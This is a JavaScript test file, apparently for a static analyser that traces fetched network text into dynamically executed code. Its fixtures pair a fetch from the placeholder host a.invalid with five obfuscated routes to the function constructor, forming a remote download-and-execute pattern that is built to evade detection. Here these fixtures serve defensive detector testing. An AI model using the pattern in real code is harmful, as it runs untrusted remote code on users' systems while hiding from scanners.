import assert from 'node:assert/strict';
import { it } from 'node:test';

import { flowLines } from '../../test/behave.ts';

/** Ways to the constructor of functions, none of which names it. */
const MAKERS = [
  `(async () => {}).constructor`,
  `Reflect.get(async () => {}, 'constructor')`,
  `Object.getPrototypeOf(async function () {}).constructor`,
  `(() => {}).__proto__.constructor`,
  `[].filter.constructor`,
];

for (const maker of MAKERS)
  it(`what is run by ${maker} is code`, () => {
    const code = `const make = ${maker}; exports.go = async () => { const text = await (await fetch('https://a.invalid')).text(); make(text)(); };`;
    assert.ok(flowLines({ 'index.js': code }).some(line => /^fetch → .* as content$/.test(line)));
  });

it('what an object has under any other key is no code', () => {
  const code = `const make = Reflect.get({ size: text => text.length }, 'size'); exports.go = async () => make(await (await fetch('https://a.invalid')).text());`;
  assert.deepEqual(flowLines({ 'index.js': code }), []);
});
